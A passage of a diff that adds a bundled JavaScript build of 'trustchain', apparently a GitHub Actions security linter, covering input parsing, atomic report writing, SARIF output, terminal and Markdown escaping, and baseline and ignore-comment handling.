+function editDistance(a, b) {
+    let beforePrevious = [];
+    let previous = Array.from({ length: b.length + 1 }, (_, j) => j);
+    for (let i = 1; i <= a.length; i++) {
+        const current = [i];
+        for (let j = 1; j <= b.length; j++) {
+            const same = a[i - 1] === b[j - 1];
+            let distance = Math.min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + (same ? 0 : 1));
+            if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) {
+                distance = Math.min(distance, beforePrevious[j - 2] + 1);
+            }
+            current.push(distance);
+        }
+        beforePrevious = previous;
+        previous = current;
+    }
+    return previous[b.length];
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/quote.js
+const quote_LONGEST = 80;
+/** What was given, in backticks and cut where it is long, for a message. */
+function quote_quote(given) {
+    return `\`${given.length > quote_LONGEST ? `${given.slice(0, quote_LONGEST)}…` : given}\``;
+}
+/** `a, b or c`. */
+function alternatives(words) {
+    if (words.length < 2)
+        return words.join("");
+    return `${words.slice(0, -1).join(", ")} or ${words.at(-1)}`;
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/builders.js
+
+
+
+function builders_text(options) {
+    return scalar("text", "TEXT", options, (given) => given);
+}
+function path(options) {
+    return scalar("path", options.hint ?? "FILE", options, (given, place) => {
+        if (given === "")
+            throw new user_error/* UserError */.y(place, "the path is empty", "give the path of a file");
+        return given;
+    });
+}
+function choice(words, options) {
+    const input = scalar("choice", words.join("|"), options, (given, place) => {
+        const word = words.find((known) => known === given);
+        if (word !== undefined)
+            return word;
+        throw new user_error/* UserError */.y(place, `${quote_quote(given)} is not accepted${didYouMean(given, words)}`, `use ${alternatives(words)}`);
+    });
+    return { ...input, choices: words };
+}
+function integer(options) {
+    const { min = 0, max = Number.MAX_SAFE_INTEGER } = options;
+    return scalar("integer", "N", options, (given, place) => {
+        const value = /^\d{1,16}$/.test(given) ? Number(given) : Number.NaN;
+        if (value >= min && value <= max)
+            return value;
+        const range = options.max === undefined ? `at least ${min}` : `from ${min} to ${max}`;
+        const wrong = Number.isNaN(value) ? "is not a whole number" : "is out of range";
+        throw new UserError(place, `${quote(given)} ${wrong}`, `give digits, ${range}`);
+    });
+}
+const MILLISECONDS = new Map([
+    ["s", 1_000],
+    ["m", 60_000],
+    ["h", 3_600_000],
+    ["d", 86_400_000],
+]);
+function duration(options) {
+    const { default: written, ...rest } = options;
+    const fallback = written === undefined ? {} : { default: parseDuration(written, "default") };
+    return { ...scalar("duration", "TIME", { ...rest, ...fallback }, parseDuration), default: written };
+}
+function parseDuration(given, place) {
+    const [, digits, unit = ""] = /^(\d{1,9})([smhd])$/.exec(given) ?? [];
+    const factor = MILLISECONDS.get(unit);
+    if (digits !== undefined && factor !== undefined)
+        return Number(digits) * factor;
+    throw new UserError(place, `${quote(given)} is not a span of time`, "give digits and a unit: seconds `30s`, minutes `5m`, hours `2h` or days `7d`");
+}
+const TRUE = ["true", "True", "TRUE"];
+const FALSE = ["false", "False", "FALSE"];
+/** Yes or no, in the words of YAML 1.2's core schema (section 10.3.2), as @actions/core reads them. False unless the default says otherwise. */
+function builders_boolean(options) {
+    const input = scalar("boolean", "", { default: false, ...options }, (given, place) => {
+        if (TRUE.includes(given))
+            return true;
+        if (FALSE.includes(given))
+            return false;
+        throw new user_error/* UserError */.y(place, `${quote_quote(given)} is neither true nor false${didYouMean(given, ["true", "false"])}`, "use true or false");
+    });
+    return input;
+}
+/** Words: given repeatedly, or separated by commas or newlines. Spaces around a word and empty words don't count. */
+function list(options) {
+    const fallback = options.default ?? [];
+    return {
+        ...described("list", options.hint ?? "WORD", options),
+        default: options.default?.join("\n"),
+        operands: options.operands ?? false,
+        read(given) {
+            const words = given.flatMap(wordsOf);
+            return words.length > 0 ? words : fallback;
+        },
+    };
+}
+function wordsOf(given) {
+    if (given.whole)
+        return [given.text];
+    return given.text
+        .split(/[,\r\n]/)
+        .map((word) => word.trim())
+        .filter((word) => word !== "");
+}
+/**
+ * A token or password: masked on the runner and never printed. An empty one counts as not given, so that
+ * `--github-token "$TOKEN"` works with and without the variable.
+ */
+function secret(options) {
+    return {
+        ...described("secret", "SECRET", options),
+        default: options.default,
+        read: (given) => given.at(-1)?.text || undefined,
+    };
+}
+/** An input of one value, of which the last given counts. */
+function scalar(kind, hint, options, parse) {
+    return {
+        ...described(kind, hint, options),
+        default: options.default === undefined ? undefined : String(options.default),
+        required: options.required ?? false,
+        read(given, place) {
+            const last = given.at(-1);
+            if (last !== undefined)
+                return parse(last.text, place);
+            if (options.required)
+                throw new user_error/* UserError */.y(place, "is required and was not given", `give ${hint}`);
+            return options.default;
+        },
+    };
+}
+function described(kind, hint, options) {
+    return {
+        kind,
+        hint,
+        description: options.description,
+        required: false,
+        runnerOnly: options.runnerOnly ?? false,
+        operands: false,
+        choices: undefined,
+    };
+}
+
+// EXTERNAL MODULE: ./packages/findings/lib/index.js + 9 modules
+var lib = __nccwpck_require__(1001);
+;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/check-inputs.js
+
+
+/** The input `fail-on` with a default of the action's own. */
+function failOn(fallback) {
+    return choice([...lib/* SEVERITIES */.oC, "never"], {
+        default: fallback,
+        description: "Fail (exit status 1) when a finding has at least this severity",
+    });
+}
+/** The inputs that every check has; an action spreads them among its own. */
+const checkInputs = {
+    paths: list({
+        default: ["."],
+        hint: "PATH",
+        operands: true,
+        description: "What to judge: folders of repositories, or single workflow, action and Dependabot files; separated by commas or newlines",
+    }),
+    "fail-on": failOn("medium"),
+    persona: choice(lib/* PERSONAS */.Ud, {
+        description: "For whom: `regular`, what nearly everyone wants fixed; `pedantic`, also style and hygiene; `auditor`, also what is only worth an auditor's look. Without it the configuration's counts, else `regular`",
+    }),
+    config: path({ description: "Settings; without it `.github/trustchain.yml` of the repository" }),
+    baseline: path({ description: "Known findings, by fingerprint: they are reported as suppressed" }),
+    offline: builders_boolean({ description: "Open no network connection, whatever else is asked" }),
+    "upload-sarif": builders_boolean({
+        runnerOnly: true,
+        description: "Send the findings to GitHub code scanning (needs the permission `security-events: write`)",
+    }),
+    "github-token": secret({
+        runnerOnly: true,
+        default: "${{ github.token }}",
+        description: "The token that sends the findings to code scanning",
+    }),
+};
+/** The outputs that every check has. */
+const checkOutputs = {
+    findings: "Number of findings at or above `fail-on`",
+    report: "Path of the JSON report",
+    sarif: "Path of the SARIF report",
+};
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/run/outcome.js
+
+const NOTHING_ASKED = { fix: "off", diff: false };
+/** How many unsuppressed findings are at or above the threshold. */
+function countFailing(report, failOn) {
+    if (failOn === "never")
+        return 0;
+    return report.findings.filter((finding) => !finding.suppressed && (0,lib/* isAtLeast */.du)(finding.severity, failOn)).length;
+}
+function outcome_exitStatusOf(report, failOn) {
+    if (!report)
+        return 0;
+    if (report.errors.length > 0)
+        return 2;
+    return countFailing(report, failOn) > 0 ? 1 : 0;
+}
+
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(3024);
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(6760);
+;// CONCATENATED MODULE: ./packages/action-kit/lib/write-file-whole.js
+
+
+
+
+
+/**
+ * Writes a file whole or not at all: into a new file beside it that then takes its name. All steps are synchronous, so
+ * that no handler of a signal runs between them. Rights of an existing file are kept, a symbolic link is followed, and
+ * what is no regular file (a device, a pipe) is written to directly.
+ *
+ * @param place how an error calls the file: the option that named it, or the path itself
+ * @throws UserError when the file can't be written; a former file is then as it was
+ */
+function write_file_whole_writeFileWhole(path, content, place = path) {
+    requireFolderOf(path, place);
+    try {
+        const former = (0,external_node_fs_.statSync)(path, { throwIfNoEntry: false });
+        if (former?.isDirectory())
+            throw new user_error/* UserError */.y(place, `${quote_quote(path)} is a folder`, "name a file");
+        if (former && !former.isFile())
+            (0,external_node_fs_.writeFileSync)(path, content);
+        else
+            replaceFile(former ? (0,external_node_fs_.realpathSync)(path) : path, content, former?.mode);
+    }
+    catch (error) {
+        if (error instanceof user_error/* UserError */.y)
+            throw error;
+        throw new user_error/* UserError */.y(place, `${quote_quote(path)} can't be written, ${(0,system_error/* explain */.WE)(error)}`, "mend that or choose another file");
+    }
+}
+/**
+ * Is there a folder to write `path` into?
+ *
+ * @throws UserError when there is none
+ */
+function requireFolderOf(path, place) {
+    const folder = (0,external_node_path_.dirname)(path);
+    let found = false;
+    try {
+        found = (0,external_node_fs_.statSync)(folder, { throwIfNoEntry: false })?.isDirectory() ?? false;
+    }
+    catch (error) {
+        if ((0,system_error/* codeOf */.$N)(error) !== "ENOTDIR") {
+            throw new user_error/* UserError */.y(place, `folder ${quote_quote(folder)} can't be read, ${(0,system_error/* explain */.WE)(error)}`, "choose another file");
+        }
+    }
+    if (!found)
+        throw new user_error/* UserError */.y(place, `folder ${quote_quote(folder)} does not exist`, "create it or choose another file");
+}
+function replaceFile(path, content, mode) {
+    // Should the name be taken after all, opening it fails: chance has only to make that rare.
+    const chance = Math.random().toString(36).slice(2);
+    const beside = (0,external_node_path_.join)((0,external_node_path_.dirname)(path), `.${(0,external_node_path_.basename)(path).slice(0, 100)}.${process.pid}-${chance}.tmp`);
+    const file = (0,external_node_fs_.openSync)(beside, "wx", 0o666);
+    try {
+        try {
+            if (mode !== undefined)
+                (0,external_node_fs_.fchmodSync)(file, mode & 0o7777);
+            (0,external_node_fs_.writeFileSync)(file, content);
+        }
+        finally {
+            (0,external_node_fs_.closeSync)(file);
+        }
+        (0,external_node_fs_.renameSync)(beside, path);
+    }
+    catch (error) {
+        (0,external_node_fs_.rmSync)(beside, { force: true });
+        throw error;
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/run/run-in-terminal.js
+
+
+
+
+
+
+const REPORT_FORMATS = (/* unused pure expression or super */ null && (["text", "json", "sarif", "markdown", "github"]));
+/**
+ * Runs an action for the command line: results go to `stdout` or the file asked for, everything else through the host.
+ *
+ * @returns the exit status; never rejects
+ */
+async function runInTerminal(main, host, request, presentation, stdout) {
+    try {
+        const { outcome, settings } = await main.start(host, request);
+        const status = exitStatusOf(outcome.report, settings.failOn);
+        for (const error of outcome.report?.errors ?? [])
+            host.error(describeReportError(error));
+        await present(outcome, request, presentation, stdout);
+        for (const note of outcome.notes ?? [])
+            host.log(note);
+        if (outcome.report)
+            host.log(closingLine(outcome.report, performance.now()));
+        return status;
+    }
+    catch (error) {
+        for (const line of describeError(error, host.env.TRUSTCHAIN_DEBUG === "1"))
+            host.error(line);
+        return 2;
+    }
+}
+async function present(outcome, request, { format, output, color, width }, stdout) {
+    const { report, context = NO_CONTEXT } = outcome;
+    if (request.diff)
+        await writeResult(stdout, outcome.diff ?? "");
+    if (!report) {
+        if (!request.diff)
+            await writeResult(stdout, outputLines(outcome));
+        return;
+    }
+    if (request.diff && output === undefined)
+        return;
+    const text = await renderReport(format, report, context, { color: color && output === undefined, width });
+    if (output === undefined)
+        await writeResult(stdout, text);
+    else
+        writeFileWhole(output, text, "--output");
+}
+const NO_CONTEXT = { source: () => undefined, rule: () => undefined };
+/** `name: value` for each output of an action that makes no report. */
+function outputLines(outcome) {
+    return Object.entries(outcome.outputs ?? {})
+        .map(([name, value]) => `${name}: ${oneLine(String(value))}\n`)
+        .join("");
+}
+function closingLine(report, milliseconds) {
+    const files = report.files === 1 ? "1 file" : `${report.files} files`;
+    return `${files} in ${(milliseconds / 1000).toFixed(2)} s`;
+}
+
+;// CONCATENATED MODULE: external "node:os"
+const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
+;// CONCATENATED MODULE: ./packages/action-kit/lib/run/report-files.js
+
+
+
+
+
+const PLAIN = { color: false, width: 100 };
+/**
+ * Writes the report as JSON and SARIF into the runner's temporary folder.
+ * The names hold the action and the step, so that they are the same in each run of a job and no two steps share them.
+ */
+async function writeReports(action, report, context, env) {
+    const base = freeBase(env.RUNNER_TEMP || (0,external_node_os_namespaceObject.tmpdir)(), action, env.GITHUB_ACTION ?? "");
+    const files = { json: `${base}.json`, sarif: `${base}.sarif` };
+    write_file_whole_writeFileWhole(files.json, await (0,lib/* renderReport */.B1)("json", report, context, PLAIN));
+    write_file_whole_writeFileWhole(files.sarif, await (0,lib/* renderReport */.B1)("sarif", report, context, PLAIN));
+    return files;
+}
+/** Steps of composite actions may share a `GITHUB_ACTION`: those that come later get a number. */
+function freeBase(folder, action, step) {
+    const name = ["trustchain", action, step.replace(/[^A-Za-z0-9_-]+/g, "-").slice(0, 100)].filter(Boolean).join("-");
+    let base = (0,external_node_path_.join)(folder, name);
+    for (let n = 2; (0,external_node_fs_.existsSync)(`${base}.json`) || (0,external_node_fs_.existsSync)(`${base}.sarif`); n++)
+        base = (0,external_node_path_.join)(folder, `${name}-${n}`);
+    return base;
+}
+
+;// CONCATENATED MODULE: ./packages/action-kit/lib/run/run-on-runner.js
+
+
+
+
+/**
+ * The whole life of an action on a runner: the entry of each action's bundle.
+ * Sets the exit status of the process, which fails the step; never rejects.
+ */
+async function runOnRunner(action, main) {
+    const { runnerHost } = await __nccwpck_require__.e(/* import() */ 961).then(__nccwpck_require__.bind(__nccwpck_require__, 9961));
+    process.exitCode = await runOnHost(action, main, await runnerHost());
+}
+/** The same on any host. */
+async function runOnHost(action, main, host) {
+    try {
+        const { outcome, settings } = await main.start(host, NOTHING_ASKED);
+        for (const [name, value] of Object.entries(outcome.outputs ?? {}))
+            host.setOutput(name, value);
+        for (const note of outcome.notes ?? [])
+            host.log(note);
+        await report(action.name, outcome, settings, host);
+        return outcome_exitStatusOf(outcome.report, settings.failOn);
+    }
+    catch (error) {
+        for (const line of describe_error_describeError(error, debugging(host)))
+            host.error(line);
+        return 2;
+    }
+}
+/** `RUNNER_DEBUG` is what the runner sets when someone runs a job again with debug logging. */
+function debugging({ env }) {
+    return env.TRUSTCHAIN_DEBUG === "1" || env.RUNNER_DEBUG === "1";
+}
+async function report(name, outcome, settings, host) {
+    const { report, context = { source: () => undefined, rule: () => undefined } } = outcome;
+    if (!report)
+        return;
+    for (const error of report.errors)
+        host.error(describe_error_describeReportError(error));
+    const files = await writeReports(name, report, context, host.env);
+    host.setOutput("findings", countFailing(report, settings.failOn));
+    host.setOutput("report", files.json);
+    host.setOutput("sarif", files.sarif);
+    const { annotations, jobSummary } = await Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 1001));
+    for (const note of annotations(report, context))
+        host.annotate(inWorkspace(note, outcome.root, host.cwd));
+    await host.summarize(await jobSummary(report, context));
+    if (settings.uploadSarif) {
+        const { uploadSarif } = await __nccwpck_require__.e(/* import() */ 778).then(__nccwpck_require__.bind(__nccwpck_require__, 1778));
+        await uploadSarif(files.sarif, settings, host);
+    }
+}
+/** GitHub finds the line of a note only by a path from the workspace; the report's start from the repository that was judged. */
+function inWorkspace(note, root, workspace) {
+    if (root === undefined || note.path === undefined)
+        return note;
+    const path = (0,external_node_path_.relative)((0,external_node_path_.resolve)(workspace), (0,external_node_path_.join)((0,external_node_path_.resolve)(workspace, root), note.path));
+    return { ...note, path: path.split(external_node_path_.sep).join("/") };
+}
+
+// EXTERNAL MODULE: ./packages/action-kit/lib/version.js
+var version = __nccwpck_require__(3465);
+;// CONCATENATED MODULE: ./packages/action-kit/lib/index.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/***/ }),
+
+/***/ 9316:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   T: () => (/* binding */ oneLine)
+/* harmony export */ });
+/* harmony import */ var _trustchain_findings__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1001);
+
+/** A text that may come from anywhere as one line that a terminal and a log show as it is. */
+function oneLine(text) {
+    return (0,_trustchain_findings__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en)(text.replace(/\r/g, "\\r").replace(/\n/g, "\\n"));
+}
+
+
+/***/ }),
+
+/***/ 9363:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   $N: () => (/* binding */ codeOf),
+/* harmony export */   WE: () => (/* binding */ explain),
+/* harmony export */   bD: () => (/* binding */ messageOf)
+/* harmony export */ });
+/** The code of a system error (`ENOENT`), or nothing. */
+function codeOf(error) {
+    const code = error?.code;
+    return typeof code === "string" ? code : "";
+}
+/** What an error says, whatever was thrown; errors of another realm are no `Error` of ours. */
+function messageOf(error) {
+    const message = error?.message;
+    return typeof message === "string" ? message : String(error);
+}
+const REASONS = new Map([
+    ["ENOSPC", "no space is left on the device"],
+    ["EACCES", "permission is denied"],
+    ["EPERM", "permission is denied"],
+    ["EROFS", "the file system is read-only"],
+    ["ENOENT", "does not exist"],
+    ["ENOTDIR", "a part of the path is not a folder"],
+    ["EISDIR", "is a folder"],
+    ["ELOOP", "symbolic links lead in a circle"],
+    ["ENAMETOOLONG", "the name is too long"],
+    ["EMFILE", "too many files are open"],
+    ["EIO", "the device failed"],
+]);
+/** What a system error means, in words. */
+function explain(error) {
+    return REASONS.get(codeOf(error)) ?? messageOf(error);
+}
+
+
+/***/ }),
+
+/***/ 5561:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   y: () => (/* binding */ UserError)
+/* harmony export */ });
+/**
+ * Something the user can mend: where it is, what is wrong, what to do. Printed as one line, `error: <place>: <cause>: <remedy>`.
+ * Everything else that is thrown is a defect of trustchain and says so.
+ */
+class UserError extends Error {
+    place;
+    reason;
+    remedy;
+    constructor(
+    /** An option, an input, or `file[:line[:column]]`. */
+    place, reason, remedy) {
+        super(`${place}: ${reason}: ${remedy}`);
+        this.place = place;
+        this.reason = reason;
+        this.remedy = remedy;
+        this.name = "UserError";
+    }
+}
+
+
+/***/ }),
+
+/***/ 3465:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   x: () => (/* binding */ VERSION)
+/* harmony export */ });
+/** The version of trustchain; the same as in the root's package.json (a test holds them together). */
+const VERSION = "0.1.0";
+
+
+/***/ }),
+
+/***/ 1533:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   D9: () => (/* binding */ markdownCode),
+/* harmony export */   FV: () => (/* binding */ escapeMarkdown),
+/* harmony export */   GO: () => (/* binding */ escapeJson),
+/* harmony export */   en: () => (/* binding */ escapeTerminal),
+/* harmony export */   ju: () => (/* binding */ markdownMessage)
+/* harmony export */ });
+/**
+ * Characters that change how a terminal, a log or a page shows the text around them, or that can't be seen: C0 and C1
+ * controls, direction marks (Unicode TR 9), zero-width and filler characters, tags, halves of surrogate pairs.
+ */
+const UNSAFE = 
+// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
+/[\x00-\x1f\x7f-\x9f\xad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb\u{e0000}-\u{e007f}\p{Cs}]/gu;
+const NAMED = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };
+/**
+ * A text that may come from anywhere as one line that a terminal shows as it is: what is unsafe stands as an escape,
+ * such as `\n`, `\x1b` or `\u202e`.
+ */
+function escapeTerminal(text) {
+    return text.replace(UNSAFE, visible);
+}
+function visible(char) {
+    const code = char.codePointAt(0);
+    const hex = code.toString(16);
+    return (NAMED[char] ??
+        (code <= 0xff ? `\\x${hex.padStart(2, "0")}` : code <= 0xffff ? `\\u${hex.padStart(4, "0")}` : `\\u{${hex}}`));
+}
+/**
+ * JSON text in which strings hold no unsafe character raw. It means the same: only `\u` escapes take their place.
+ *
+ * @param json as `JSON.stringify` writes it; its line breaks stay
+ * @see RFC 8259, section 7
+ */
+function escapeJson(json) {
+    return json.replace(UNSAFE, (char) => (char === "\n" ? char : unitEscapes(char)));
+}
+function unitEscapes(char) {
+    let text = "";
+    for (let i = 0; i < char.length; i++)
+        text += `\\u${char.charCodeAt(i).toString(16).padStart(4, "0")}`;
+    return text;
+}
+/** Zero width space: breaks up what would become a link or a mention, and can't be seen. */
+const BREAK = "\u200b";
+/** What ends or begins something in HTML or in a table. A bar is an entity: `\|` after a backslash would end the cell. */
+const ENTITIES = {
+    "&": "&amp;",
+    "<": "&lt;",
+    ">": "&gt;",
+    '"': "&quot;",
+    "|": "&#124;",
+    [BREAK]: "&#8203;",
+};
+/**
+ * A text that may come from anywhere as Markdown that shows it as it is, on one line, in a table's cell too: no markup,
+ * no HTML, no link, no mention, no reference to an issue.
+ *
+ * @see GitHub Flavored Markdown, sections 2.4 (backslash escapes), 4.10 (tables) and 6.9 (autolinks)
+ */
+function escapeMarkdown(text) {
+    return escapeTerminal(text)
+        .replace(/@|:(?=\/\/)|www(?=\.)|\bgh-(?=\d)|#(?=\d)/gi, `$&${BREAK}`)
+        .replace(/[\\`*_[\]#!~$]/g, "\\$&")
+        .replace(/[&<>"|\u200b]/g, (char) => ENTITIES[char])
+        .replace(/^(\s*)([-+=]|\d{1,9}(?=[.)]))/, (_, space, mark) => `${space}${/\d/.test(mark) ? `${mark}\\` : `\\${mark}`}`);
+}
+/** The same as a code span, where one can hold it. */
+function markdownCode(text) {
+    const shown = escapeTerminal(text);
+    // Inside a table a code span can't hold a bar, and backticks or outer spaces need more care than they are worth.
+    return shown === "" || /[`|]|^ | $/.test(shown) ? escapeMarkdown(text) : `\`${shown}\``;
+}
+/**
+ * A message, with its code spans, as Markdown. Messages quote what a repository says between backticks: whatever stands
+ * there, each part is shown as it is.
+ */
+function markdownMessage(message) {
+    const parts = message.split("`");
+    // A backtick without its partner belongs to the text.
+    if (parts.length % 2 === 0) {
+        const last = parts.pop();
+        parts[parts.length - 1] += `\`${last}`;
+    }
+    let markdown = "";
+    for (let i = 0; i < parts.length; i++) {
+        const part = parts[i];
+        markdown += i % 2 === 1 && part !== "" ? markdownCode(part) : escapeMarkdown(part);
+    }
+    return markdown;
+}
+
+
+/***/ }),
+
+/***/ 45:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   DM: () => (/* binding */ lowered),
+/* harmony export */   Eg: () => (/* binding */ compareFindings),
+/* harmony export */   Ud: () => (/* binding */ PERSONAS),
+/* harmony export */   du: () => (/* binding */ isAtLeast),
+/* harmony export */   it: () => (/* binding */ isHeardBy),
+/* harmony export */   n6: () => (/* binding */ compareText),
+/* harmony export */   oC: () => (/* binding */ SEVERITIES),
+/* harmony export */   zK: () => (/* binding */ compareSeverity)
+/* harmony export */ });
+/* unused harmony export CONFIDENCES */
+/** From worst to least; the order is the order of reports. */
+const SEVERITIES = ["critical", "high", "medium", "low", "info"];
+const CONFIDENCES = (/* unused pure expression or super */ null && (["high", "medium", "low"]));
+/** For whom a finding speaks; each persona also hears what the ones before it hear (zizmor's word). */
+const PERSONAS = ["regular", "pedantic", "auditor"];
+/** Negative when `a` is worse than `b`. */
+function compareSeverity(a, b) {
+    return SEVERITIES.indexOf(a) - SEVERITIES.indexOf(b);
+}
+function isAtLeast(severity, threshold) {
+    return compareSeverity(severity, threshold) <= 0;
+}
+/** One level less severe; `info` stays. */
+function lowered(severity) {
+    return SEVERITIES[Math.min(SEVERITIES.indexOf(severity) + 1, SEVERITIES.length - 1)];
+}
+/** Does a finding made for `persona` reach someone who asked as `asked`? */
+function isHeardBy(persona, asked) {
+    return PERSONAS.indexOf(persona) <= PERSONAS.indexOf(asked);
+}
+/** The order of reports: path, line, column, rule, then message so that equal places keep one order. */
+function compareFindings(a, b) {
+    return (compareText(a.location.path, b.location.path) ||
+        a.location.startLine - b.location.startLine ||
+        a.location.startColumn - b.location.startColumn ||
+        compareText(a.rule, b.rule) ||
+        compareText(a.message, b.message));
+}
+/** Order by UTF-16 code units: the same on every machine, unlike `localeCompare`. */
+function compareText(a, b) {
+    return a < b ? -1 : a > b ? 1 : 0;
+}
+
+
+/***/ }),
+
+/***/ 1001:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  IF: () => (/* reexport */ FormatError),
+  Ud: () => (/* reexport */ finding/* PERSONAS */.Ud),
+  oC: () => (/* reexport */ finding/* SEVERITIES */.oC),
+  sC: () => (/* reexport */ SourceFile),
+  annotations: () => (/* reexport */ github.annotations),
+  Qp: () => (/* reexport */ applyBaseline),
+  XX: () => (/* reexport */ applyComments),
+  ct: () => (/* reexport */ applyEdits),
+  zK: () => (/* reexport */ finding/* compareSeverity */.zK),
+  n6: () => (/* reexport */ finding/* compareText */.n6),
+  Ot: () => (/* reexport */ report/* countBySeverity */.O),
+  en: () => (/* reexport */ lib_escape/* escapeTerminal */.en),
+  f5: () => (/* reexport */ fingerprintFindings),
+  du: () => (/* reexport */ finding/* isAtLeast */.du),
+  it: () => (/* reexport */ finding/* isHeardBy */.it),
+  jobSummary: () => (/* reexport */ jobSummary),
+  DM: () => (/* reexport */ finding/* lowered */.DM),
+  nk: () => (/* reexport */ parseBaseline),
+  B1: () => (/* reexport */ renderReport),
+  _u: () => (/* reexport */ selectFixes),
+  Tc: () => (/* reexport */ report/* sortFindings */.T),
+  WH: () => (/* reexport */ unifiedDiff),
+  B9: () => (/* reexport */ writeBaseline)
+});
+
+// UNUSED EXPORTS: CONFIDENCES, compareFindings, escapeMarkdown, ignoreComments, overlaps, reportSchema
+
+// EXTERNAL MODULE: ./packages/findings/lib/finding.js
+var finding = __nccwpck_require__(45);
+;// CONCATENATED MODULE: ./packages/findings/lib/format-error.js
+/** A file of ours that isn't as it should be: which, where, what is wrong, what to do. */
+class FormatError extends Error {
+    file;
+    reason;
+    remedy;
+    /** 1-based; undefined where the file as a whole is meant. */
+    line;
+    constructor(file, reason, remedy, line) {
+        super(`${line === undefined ? file : `${file}:${line}`}: ${reason}: ${remedy}`);
+        this.file = file;
+        this.reason = reason;
+        this.remedy = remedy;
+        this.name = "FormatError";
+        this.line = line;
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/findings/lib/baseline.js
+
+
+/** The version of the file's form; the version of the tool that wrote it does not matter. */
+const SCHEMA = 1;
+const REMEDY = "write it again with --write-baseline";
+/**
+ * Reads a baseline.
+ *
+ * @param file how errors call it
+ * @throws FormatError when it is none
+ */
+function parseBaseline(text, file) {
+    let parsed;
+    try {
+        parsed = JSON.parse(text);
+    }
+    catch {
+        throw new FormatError(file, "it is not JSON", REMEDY);
+    }
+    if (!isRecord(parsed) || !("schema" in parsed))
+        throw new FormatError(file, "it is no baseline", REMEDY);
+    if (parsed.schema !== SCHEMA) {
+        const given = JSON.stringify(parsed.schema)?.slice(0, 20);
+        throw new FormatError(file, `it has schema ${given}, and this version reads schema ${SCHEMA}`, REMEDY);
+    }
+    const { findings } = parsed;
+    if (!Array.isArray(findings))
+        throw new FormatError(file, "it has no list of findings", REMEDY);
+    return new Set(findings.map((finding, i) => fingerprintOf(finding, i, file)));
+}
+function fingerprintOf(finding, index, file) {
+    if (isRecord(finding) && typeof finding.fingerprint === "string")
+        return finding.fingerprint;
+    throw new FormatError(file, `finding ${index + 1} has no fingerprint`, REMEDY);
+}
+function isRecord(value) {
+    return typeof value === "object" && value !== null;
+}
+/** Marks the findings that a baseline knows. Those that are silenced otherwise keep their reason. */
+function applyBaseline(findings, baseline) {
+    const suppressed = { by: "baseline", reason: "known in the baseline" };
+    return findings.map((finding) => !finding.suppressed && baseline.has(finding.fingerprint) ? { ...finding, suppressed } : finding);
+}
+/** A baseline that holds the findings which nothing silences; those that an older baseline silenced stay in. */
+function writeBaseline(findings, version) {
+    const known = findings
+        .filter((finding) => !finding.suppressed || finding.suppressed.by === "baseline")
+        .map(({ fingerprint, rule, location, message }) => ({ fingerprint, rule, path: location.path, message }))
+        .sort((a, b) => (0,finding/* compareText */.n6)(a.path, b.path) || (0,finding/* compareText */.n6)(a.rule, b.rule) || (0,finding/* compareText */.n6)(a.fingerprint, b.fingerprint));
+    return `${JSON.stringify({ schema: SCHEMA, tool: { name: "trustchain", version }, findings: known }, null, 2)}\n`;
+}
+
+;// CONCATENATED MODULE: ./packages/findings/lib/comments.js
+const IGNORE = /^\s*(trustchain|zizmor)\s*:\s*ignore\s*\[([^\]\r\n]*)\]\s*(.*)$/;
+/**
+ * The ignore comments among a file's comments.
+ *
+ * One at the end of a line speaks of that line; one alone on its line of the next line that is no such comment.
+ */
+function ignoreComments(comments) {
+    const alone = new Set(comments.filter((comment) => comment.alone).map((comment) => comment.line));
+    return comments.flatMap((comment) => {
+        const match = IGNORE.exec(comment.text);
+        if (!match)
+            return [];
+        const rules = match[2]
+            .split(",")
+            .map((id) => id.trim())
+            .filter((id) => id !== "");
+        const dialect = match[1];
+        return [{ comment, dialect, rules, reason: match[3].trim(), lines: linesOf(comment, alone) }];
+    });
+}
+function linesOf(comment, alone) {
+    if (!comment.alone)
+        return [comment.line];
+    let line = comment.line + 1;
+    while (alone.has(line))
+        line++;
+    return [line];
+}
+/**
+ * Marks the findings of one file that its comments silence.
+ *
+ * zizmor's comments count for rules that both tools share. zizmor asks for no reason, so none is asked for.
+ */
+function applyComments(findings, comments, options) {
+    const ignores = ignoreComments(comments);
